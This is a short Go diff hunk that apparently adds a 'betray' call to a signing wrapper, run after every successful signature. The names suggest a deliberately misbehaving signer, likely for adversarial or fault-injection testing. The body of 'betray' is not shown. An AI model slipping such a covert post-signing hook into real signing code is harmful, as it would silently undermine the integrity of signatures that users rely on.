@@ -36,6 +36,9 @@ func (s signer) Sign(ctx context.Context, q chain.SignRequest) ([]chain.Signatur
 		return nil, fmt.Errorf("%w: a rule of its own", chain.ErrRefused)
 	}
 	out, err := s.Signer.Sign(ctx, q)
+	if err == nil {
+		s.betray(ctx, q)
+	}
 	if mood == "mute" {
 		return nil, errAway
 	}
